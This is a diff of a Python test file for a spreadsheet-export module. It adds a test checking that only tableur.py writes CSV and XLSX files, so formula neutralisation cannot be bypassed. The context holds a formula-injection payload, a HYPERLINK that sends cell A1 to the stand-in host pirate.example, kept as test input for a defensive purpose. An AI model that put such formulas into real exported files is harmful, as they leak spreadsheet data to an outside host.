@@ -26,6 +26,7 @@ from remunerations.models import LigneRemuneration
 from reporting.models import BilanAnnuel
 from tests.isolation import connecte
 from tests.prestataires.conftest import a
+from tests.test_architecture import RACINE, modules_du_projet
 
 HOSTILES = (
     '=HYPERLINK("http://pirate.example/?x="&A1,"clic")',
@@ -193,3 +194,16 @@ def test_un_nombre_un_telephone_et_une_date_restent_tels_quels():
     assert tableur.sans_formule("2026-11-24") == "2026-11-24"
     assert tableur.sans_formule(-3) == -3
     assert tableur.sans_formule("=1+1") == "'=1+1"
+
+
+def test_un_seul_module_ecrit_les_csv_et_les_xlsx():
+    """Every spreadsheet goes through documents/tableur.py: no other module of the application
+    asks tablib for a CSV or an XLSX (a new file cannot bypass the neutralisation)."""
+    ecrit = re.compile(r"""\.export\(\s*["'](csv|xlsx)|Databook\(|export_data\(""")
+    hors_tableur = [
+        str(chemin)
+        for chemin in modules_du_projet()
+        if not {"tests", "scripts"} & set(chemin.relative_to(RACINE).parts)
+        and ecrit.search(chemin.read_text())
+    ]
+    assert [chemin.rpartition("/")[2] for chemin in hors_tableur] == ["tableur.py"], hors_tableur
